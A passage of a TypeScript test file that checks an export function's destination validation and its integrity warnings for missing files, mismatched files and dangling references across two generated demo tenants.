    expect(await problem(fake)).toEqual(['EXPORT_DESTINATION_INVALID', 'inside_export', expect.any(String)]);
    const pkgLike = outDir('looks-like-a-package');
    writeFileSync(path.join(pkgLike, 'datapackage.json'), '{}');
    writeFileSync(path.join(pkgLike, 'SHA256SUMS'), '');
    expect(await problem(pkgLike)).toEqual(['EXPORT_DESTINATION_INVALID', 'inside_export', expect.any(String)]);
    expect(await problem(real, Number.MAX_SAFE_INTEGER)).toEqual(['EXPORT_DESTINATION_INVALID', 'insufficient_space', expect.stringMatching(/Free at least/)]);
    expect(await problem(real)).toBeNull();
    // And runExport checks before writing anything.
    const db = await fx.open();
    await expect(runExport(baseInput(fx, db, path.join(tmp.dir, 'link')))).rejects.toMatchObject({ code: 'EXPORT_DESTINATION_INVALID' });
    await db.close();
    expect(readdirSync(real)).toEqual([]);
  });
});

describe('runExport on demo fleet tenants (app/demo)', () => {
  let tmp: { dir: string; remove: () => void };
  beforeAll(() => {
    tmp = tempDir('custos-export-demo-');
  });
  afterAll(() => tmp?.remove());

  it('reports the integrity tenant’s missing object, mismatched object and dangling references; the hostile tenant verifies', async () => {
    const tenantsDir = path.join(tmp.dir, 'tenants');
    const store = new LocalObjectStore({ dir: path.join(tmp.dir, 'store') });
    const asOf = new Date('2025-06-30T00:00:00.000Z');
    const out = path.join(tmp.dir, 'out');
    mkdirSync(out);
    for (const index of [0, 1]) {
      const record = await generateTenant({ tenantsDir, objectStore: store, index, size: 'small', seed: 42, asOf });
      const db = await openSqliteTenant(tenantsDir, record);
      const r = await runExport({
        tenantId: record.id,
        tenantSlug: record.slug,
        tenantName: record.name,
        db: withSqliteRowBatches(db),
        objectStore: store,
        profile: 'advanced',
        formats: ['csv', 'xlsx'],
        outDir: out,
        staff: { id: 's', label: 'Sam' },
        billing: { status: 'free' },
        appVersion: 'test',
        clock: systemClock,
        signal: new AbortController().signal,
        progress: () => {},
      }).finally(() => db.close());
      expect((await verifyExport(r.path)).ok).toBe(true);
      if (index === 1) {
        const w = (code: string): { samples: { id: unknown }[] } | undefined => r.warnings.find((x) => x.code === code);
        expect(w('FILE_MISSING')?.samples.map((s) => s.id)).toEqual([3]);
        expect(w('FILE_MISMATCH')?.samples.map((s) => s.id)).toEqual([5]);
        const dangling = r.warnings.find((x) => x.code === 'DANGLING_REFERENCE' && x.list === 'persons' && x.column === 'company_id');
        expect(dangling?.samples.map((s) => s.id)).toEqual([2, 7]);
      } else {
        expect(r.files.ok).toBeGreaterThan(30);
      }
    }
  });
});
